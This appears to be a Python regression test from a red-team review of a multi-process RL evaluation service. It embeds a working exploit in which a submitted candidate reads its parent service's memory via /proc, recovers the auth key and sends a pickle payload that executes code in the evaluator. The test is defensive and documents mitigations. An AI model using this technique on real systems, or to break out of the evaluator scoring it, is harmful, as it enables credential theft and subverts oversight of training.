"""The evaluator service's key against a candidate in one of its workers (red team of the
multi-process GRPO service, main at fa2886c).

``eval/pool_service.py`` says the key travels only through the start pipe and the launcher's
collective, so no candidate worker can learn it. Its environment and command line do not hold
it, and the worker inherits no descriptor of the service's. But the worker is the service's child
and runs as the same user (root on the CI runner), so it can read the service's memory through
``/proc/PPID/mem`` wherever the kernel lets a process read its parent's (no Yama, or Yama 0, or
root): the key is a 32-byte ``bytes`` object there, findable by its header (the same Python
binary, so ``PyBytes_Type`` at the same offset). With the key, the client protocol is pickle
(``multiprocessing.connection``): the first message runs code of the candidate's choosing in the
service, the process that makes every rank's results.

Stopped (the same day): the service's messages are JSON, so the stolen key admits evaluations
and nothing more. The rest of what would stop it, for reading the key at all: a service connection that never unpickles (a request as ``wire`` JSON, its
task and source as strings), so that the key only admits evaluations; and workers that cannot
read the service's memory (``prctl(PR_SET_DUMPABLE, 0)`` in the service stops a non-root worker
of the same user; a root worker needs a user or container of its own, which the sandbox's
"not covered" already names).
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from cudal1.config import PoolConfig
from cudal1.eval.pool_service import PoolService, RemotePool
from cudal1.schema import EvalRequest

# The candidate: at import, in its worker, it finds the service's listening port and the 32-byte
# bytes objects in the service's memory, tries each as the key, and with the right one sends a
# pickle that writes the service's pid to MARKER. Then it is an honest candidate.
THIEF = """
import os, re, struct
from multiprocessing.connection import Client

import torch
import torch.nn as nn

MARKER = {marker!r}


def _maps(pid):
    out = []
    with open(f"/proc/{{pid}}/maps") as f:
        for line in f:
            p = line.split()
            lo, hi = (int(x, 16) for x in p[0].split("-"))
            out.append((lo, hi, p[1], int(p[2], 16), p[5] if len(p) > 5 else ""))
    return out


def _bytes_type(pid):
    own = id(bytes)
    for lo, hi, _, off, path in _maps(os.getpid()):
        if lo <= own < hi and path:
            at = own - lo + off
            for plo, phi, _, poff, ppath in _maps(pid):
                if ppath == path and poff <= at < poff + (phi - plo):
                    return plo + at - poff
    return None


def _ports(pid):
    inodes = set()
    for fd in os.listdir(f"/proc/{{pid}}/fd"):
        try:
            link = os.readlink(f"/proc/{{pid}}/fd/{{fd}}")
        except OSError:
            continue
        if link.startswith("socket:["):
            inodes.add(link[8:-1])
    with open(f"/proc/{{pid}}/net/tcp") as f:
        rows = [r.split() for r in f.readlines()[1:]]
    return [int(r[1].split(":")[1], 16) for r in rows if r[3] == "0A" and r[9] in inodes]


def _keys(pid, typ):
    head = re.compile(re.escape(struct.pack("<Qq", typ, 32)))
    found = []
    with open(f"/proc/{{pid}}/mem", "rb", buffering=0) as mem:
        for lo, hi, perm, _, _ in _maps(pid):
            if not perm.startswith("rw") or hi - lo > 1 << 30:
                continue
            try:
                mem.seek(lo)
                data = mem.read(hi - lo)
            except (OSError, ValueError, OverflowError):
                continue
            for m in head.finditer(data):
                key = data[m.start() + 24 : m.start() + 56]
                if len(key) == 32 and data[m.start() + 56 : m.start() + 57] == bytes(1):
                    found.append(key)
    return list(dict.fromkeys(found))


class _Run:
    def __reduce__(self):
        return (exec, (f"import os; open({{MARKER!r}}, 'w').write(str(os.getpid()))",))


def _steal():
    pid = os.getppid()
    with open(MARKER + ".parent", "w") as f:
        f.write(str(pid))
    typ = _bytes_type(pid)
    if typ is None:
        return
    for port in _ports(pid):
        for key in _keys(pid, typ):
            try:
                conn = Client(("127.0.0.1", port), authkey=key)
            except Exception:
                continue
            conn.recv()  # the service's hello
            conn.send(("submit", 0, _Run()))
            conn.close()
            return


try:
    _steal()
except Exception:
    pass


class ModelNew(nn.Module):
    def __init__(self, n):
        super().__init__()
        self.lin = nn.Linear(n, n)

    def forward(self, x):
        return torch.relu(self.lin(x))
"""


@pytest.fixture
def service(fast_config):
    with PoolService.start(fast_config, PoolConfig(workers=1, spares=0, devices=("cpu",))) as svc:
        yield svc


def _parent_memory_readable() -> bool:
    """Whether a child of this process may read its parent's memory here (the kernel's rule)."""
    pid = os.fork()
    if pid == 0:
        try:
            with open(f"/proc/{os.getppid()}/mem", "rb", buffering=0) as mem:
                mem.seek(id(object))
                mem.read(8)
            os._exit(0)
        except OSError:
            os._exit(1)
    return os.waitpid(pid, 0)[1] == 0


@pytest.mark.skipif(not Path("/proc/self/mem").exists(), reason="needs Linux /proc")
def test_a_candidate_with_the_service_key_runs_no_code_in_the_service(service, task, tmp_path):
    if not _parent_memory_readable():
        pytest.skip("this kernel does not let a child read its parent's memory: the attack cannot start")
    marker = tmp_path / "ran-in-service"
    with RemotePool(service.address) as pool:
        result = pool.submit(EvalRequest(task, THIEF.format(marker=str(marker)))).result(timeout=180)
    assert result.correct  # it is an honest candidate besides
    parent = Path(f"{marker}.parent").read_text()  # the worker's parent: the service
    assert not marker.exists(), (
        f"the candidate's code ran in process {marker.read_text()}, its worker's parent {parent}"
    )
